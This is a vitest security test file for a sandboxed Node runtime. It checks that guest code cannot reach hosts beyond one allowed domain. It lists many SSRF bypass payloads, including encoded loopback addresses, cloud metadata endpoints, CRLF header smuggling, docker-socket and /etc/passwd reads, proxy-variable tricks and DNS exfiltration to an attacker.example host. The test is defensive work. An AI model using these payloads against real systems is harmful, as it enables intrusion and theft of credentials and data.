import { execFile } from "node:child_process";
import { createSocket, type Socket as DatagramSocket } from "node:dgram";
import { once } from "node:events";
import { createServer as createHttpServer } from "node:http";
import { type AddressInfo, connect, createServer, type Server } from "node:net";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { RunResult } from "../../src/runtime/result.js";
import type { Runtime } from "../../src/runtime/runtime.js";
import { startRuntime } from "../broker/egress/guest.js";
import { FakeResolver } from "../broker/egress/machine.js";
import { plainNode } from "../programs/plain-node.ts";

/** Ports of the host that must never hear of a guest. */
let canary: Server;
let datagrams: DatagramSocket;
let port: number;
const heard: string[] = [];

/** The one host that is allowed: redirects to wherever its path says. */
let allowed: Server;
const resolver = new FakeResolver({ "public.example": [["93.184.216.34"], ["93.184.216.34"]] });
const remotes = new Set<string>();
let runtime: Runtime;

beforeAll(async () => {
  canary = createServer((socket) => {
    heard.push("connection");
    socket.destroy();
  }).listen(0, "127.0.0.1");
  await once(canary, "listening");
  port = (canary.address() as AddressInfo).port;
  datagrams = createSocket("udp4", () => heard.push("datagram")).bind(port, "127.0.0.1");
  await once(datagrams, "listening");
  allowed = createHttpServer((request, response) => {
    response.writeHead(302, { location: decodeURIComponent(String(request.url).slice(1)) }).end();
  }).listen(0, "127.0.0.1");
  await once(allowed, "listening");
  const { port: allowedPort } = allowed.address() as AddressInfo;
  runtime = await startRuntime(
    { rules: [{ mode: "allow", patterns: ["public.example"] }] },
    {
      resolver,
      connector: (remote) => {
        remotes.add(`${remote.address}:${remote.port}`);
        return connect({ port: allowedPort, host: "127.0.0.1", allowHalfOpen: true });
      },
    },
  );
});

afterAll(async () => {
  await runtime.dispose();
  canary.close();
  datagrams.close();
  allowed.close();
});

/** Each is an expression of a guest's that is to fail: with its code, or for want of one its name. */
const rows: Record<string, string> = {
  ...Object.fromEntries(
    [
      ...[
        "2130706433",
        "0x7f000001",
        "0x7f.1",
        "0177.0.0.1",
        "017700000001",
        "127.1",
        "127.0.0.1.",
        "0",
        "127.255.0.1",
      ],
      ...["[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"],
      ...[
        "localhost",
        "localhost.",
        "LOCALHOST",
        "a.localhost",
        "localhost.localdomain",
        "ⓛocalhost",
        "ip6-localhost",
      ],
      ...["127。0。0。1", "１２７.0.0.1", "secure-exec", "169.254.169.254", "0xA9FEA9FE", "[fd00:ec2::254]"],
      ...[
        "metadata.google.internal",
        "169.254.169.254.nip.io",
        "10.0.0.1",
        "192.168.0.1",
        "[fe80::1]",
        "93.184.216.35",
      ],
      ...[
        "public.example.evil.example",
        "evil-public.example",
        "public。example。evil.example",
        "sub.public.example",
      ],
      ...[
        "public.example@127.0.0.1",
        "a:b@169.254.169.254",
        "127.0.0.1#@public.example",
        "127.0.0.1\\\\@public.example",
      ],
      ...["public.example%00.evil.example", "public.example%2f@127.0.0.1", "public.example\\u2100"],
    ].map((host) => [`fetch of ${host}`, `fetch("http://${host}" + suffix("${host}"))`]),
  ),
  "a file": `fetch("file:///etc/passwd")`,
  "a socket of the host": `fetch("unix:/var/run/docker.sock")`,
  "a socket of the host by http": `ask({ socketPath: "/var/run/docker.sock" })`,
  "a socket of the host by net": `reach({ path: "/var/run/docker.sock" })`,
  gopher: `fetch("gopher://127.0.0.1:" + PORT)`,
  ftp: `fetch("ftp://127.0.0.1:" + PORT)`,
  "a module by http": `import("http://127.0.0.1:" + PORT + "/x.mjs")`,
  WebSocket: `new Promise((_, failed) => { new WebSocket("ws://127.0.0.1:" + PORT).onerror = ({ error }) => failed(error ?? new Error("closed")); })`,
  "net by number": `reach({ host: "2130706433", port: PORT })`,
  "net by octal numbers": `reach({ host: "0177.0.0.1", port: PORT })`,
  "net with a look-up of its own": `reach({ host: "public.example", port: PORT, lookup: (_, options, done) => options.all ? done(null, [{ address: "127.0.0.1", family: 4 }]) : done(null, "127.0.0.1", 4) })`,
  "http with a look-up of its own": `ask({ host: "public.example", lookup: (_, options, done) => options.all ? done(null, [{ address: "169.254.169.254", family: 4 }]) : done(null, "169.254.169.254", 4) })`,
  http2: `new Promise((_, failed) => http2.connect("http://169.254.169.254").on("error", failed))`,
  "a name by a resolver of its own": `Object.assign(new dns.Resolver()).resolve4("secret.attacker.example")`,
  "a resolver of the host's": `(() => { const own = new dns.Resolver(); own.setServers(["127.0.0.1:" + PORT]); return own.resolveTxt("secret.attacker.example"); })()`,
  "a name as data": `dns.resolveTxt("c2VjcmV0.attacker.example")`,
  "an address's name": `dns.reverse("10.0.0.1")`,
  "a datagram to the host": `send(PORT, "127.0.0.1")`,
  "a datagram to a resolver": `send(53, "8.8.8.8")`,
  "a datagram to metadata": `send(80, "169.254.169.254")`,
  "a datagram to everybody": `send(PORT, "255.255.255.255")`,
  "a line break in the host": `ask({ host: "public.example\\r\\nx: y" })`,
  "a line break in the header Host": `ask({ host: "public.example", headers: { host: "public.example\\r\\nhost: 127.0.0.1" } })`,
  "a line break in the path": `ask({ host: "public.example", path: "/ HTTP/1.1\\r\\nhost: 127.0.0.1\\r\\n\\r\\n" })`,
  "another host in the header": `ask({ host: "public.example", headers: { host: "169.254.169.254" } })`,
  "the allowed host for a proxy": `ask({ host: "public.example", path: "http://169.254.169.254/" })`,
  "a tunnel of the allowed host": `ask({ host: "public.example", method: "CONNECT", path: "169.254.169.254:80" })`,
  "SOCKS to the allowed host": `talk("public.example", 80, Buffer.from([5, 1, 0]))`,
  "SOCKS to the host": `talk("127.0.0.1", PORT, Buffer.from([5, 1, 0]))`,
  "a second request for another host": `talk("public.example", 80, "GET / HTTP/1.1\\r\\nHost: public.example\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: 10.0.0.1\\r\\n\\r\\n")`,
  "a proxy for http": `fetchBy({ HTTP_PROXY: "http://127.0.0.1:" + PORT }, "http://other.example/")`,
  "a proxy for https": `fetchBy({ HTTPS_PROXY: "http://127.0.0.1:" + PORT }, "https://other.example/")`,
  "an address that the proxy is not for": `fetchBy({ HTTP_PROXY: "http://127.0.0.1:" + PORT, NO_PROXY: "169.254.169.254" }, "http://169.254.169.254/")`,
  "a proxy by its name": `fetchBy({ http_proxy: "http://proxy.attacker.example:3128", NO_PROXY: "none.example" }, "http://public.example/")`,
  "a proxy of SOCKS": `fetchBy({ ALL_PROXY: "socks5://127.0.0.1:" + PORT, HTTP_PROXY: "socks5://127.0.0.1:" + PORT }, "http://other.example/")`,
  "an agent with a proxy": `ask({ host: "other.example", agent: new http.Agent({ proxyEnv: { HTTP_PROXY: "http://127.0.0.1:" + PORT } }) })`,
  ...Object.fromEntries(
    [
      ...[
        "http://127.0.0.1:PORT/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::1]:PORT/",
        "http://other.example/",
      ],
      ...[
        "file:///etc/passwd",
        "data:,x",
        "//10.0.0.1/",
        "http://public.example:PORT@127.0.0.1:PORT/",
        "ftp://public.example/",
      ],
    ].map((url) => [
      `a redirect to ${url}`,
      `fetch("http://public.example/" + encodeURIComponent("${url}".replaceAll("PORT", PORT)))`,
    ]),
  ),
};

/** What a refusal looks like; a datagram to a port of the machine's own that nobody has is lost. */
const REFUSED =
  /: (?:EACCES|ECONNREFUSED|ENOENT|ENOTFOUND|ERR_INVALID_URL|ERR_INVALID_CHAR|ERR_UNESCAPED_CHARACTERS|ERR_UNSUPPORTED_ESM_URL_SCHEME|ERR_SSL_\w+|not made)$|^a datagram to the host: reached sent$/u;

const program = `
  import { execFileSync } from "node:child_process";
  import dgram from "node:dgram";
  import { promises as dns } from "node:dns";
  import http from "node:http";
  import http2 from "node:http2";
  import net from "node:net";
  const PORT = PORT_OF_THE_HOST;
  const suffix = (host) => /[#@\\\\%]/.test(host) ? "/" : ":" + PORT + "/";
  const ask = (options) => new Promise((done, failed) =>
    http.request({ port: 80, ...options }, (response) => done(response.resume())).on("error", failed).on("connect", done).end());
  const reach = (options) => new Promise((done, failed) => net.connect(options, done).on("error", failed));
  const talk = (host, port, bytes) => new Promise((done, failed) => {
    const socket = net.connect({ host, port }, () => socket.write(bytes));
    socket.on("error", failed).on("close", () => done("closed")).resume();
  });
  const send = (port, host) => new Promise((done, failed) => {
    const socket = dgram.createSocket("udp4").on("error", failed);
    socket.send("x", port, host, (error) => { socket.close(); error ? failed(error) : done("sent"); });
  });
  const fetchBy = (env, url) => {
    const code = "fetch(process.argv[1]).then(() => console.log('reached'), ({ cause }) => console.log(cause.code))";
    const outcome = String(execFileSync("node", ["-e", code, url], { env: { ...process.env, ...env, NODE_USE_ENV_PROXY: "1" } })).trim();
    if (outcome !== "reached") throw Object.assign(new Error(), { code: outcome });
  };
  const attempts = { ATTEMPTS };
  const outcomes = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      const value = await attempt();
      outcomes[name] = "reached " + (value?.url ?? value);
    } catch (error) {
      outcomes[name] = error.cause?.code ?? error.code ?? "not made";
    }
  }
  __return(outcomes);
`;

test("no form of an address, name, scheme or proxy leads past the one host that is allowed", async () => {
  const attempts = Object.entries(rows).map(
    ([name, code]) => `${JSON.stringify(name)}: async () => await ${code}`,
  );
  const code = program
    .replace("PORT_OF_THE_HOST", String(port))
    .replace("ATTEMPTS", () => attempts.join(",\n"));
  const { value, exitCode } = (await runtime.call(code, {}, true)) as RunResult<Record<string, string>>;
  expect(exitCode).toBe(0);
  expect(Object.keys(value ?? {})).toEqual(Object.keys(rows));
  for (const [name, outcome] of Object.entries(value ?? {})) expect(`${name}: ${outcome}`).toMatch(REFUSED);
  expect(new Set(resolver.asked)).toEqual(new Set(["public.example"]));
  expect([...remotes].filter((remote) => !remote.startsWith("93.184.216.34:"))).toEqual([]);
  expect(heard).toEqual([]);
});

test("variables that name proxies mean nothing to the host", async () => {
  const direct = createHttpServer((_request, response) => response.end("direct")).listen(0, "127.0.0.1");
  await once(direct, "listening");
  const { port: own } = direct.address() as AddressInfo;
  const library = fileURLToPath(new URL("../../dist/index.js", import.meta.url));
  const host = `
    import { NodeRuntime } from ${JSON.stringify(library)};
    const rt = await NodeRuntime.create({
      loopbackExemptPorts: [${own}],
      permissions: { network: { rules: [{ mode: "allow", patterns: ["public.example"] }] } },
      secrets: { KEY: { value: "12345678", hosts: ["public.example"], header: "authorization" } },
    });
    const { stdout } = await rt.exec(\`
      console.log(await (await fetch("http://127.0.0.1:${own}/")).text());
      console.log(process.env.HTTP_PROXY, process.env.NODE_USE_ENV_PROXY, process.env.no_proxy);
    \`);
    process.stdout.write(stdout);
    await rt.dispose();
  `;
  const proxy = `http://127.0.0.1:${port}`;
  const env = {
    ...{ PATH: process.env["PATH"], NODE_USE_ENV_PROXY: "1", HTTP_PROXY: proxy, HTTPS_PROXY: proxy },
    ...{ ALL_PROXY: proxy, http_proxy: proxy, https_proxy: proxy, NO_PROXY: "", no_proxy: "" },
  };
  const { stdout } = await promisify(execFile)(plainNode, ["--input-type=module", "--eval", host], { env });
  direct.close();
  expect(stdout).toBe("direct\nundefined undefined undefined\n");
  expect(heard).toEqual([]);
});
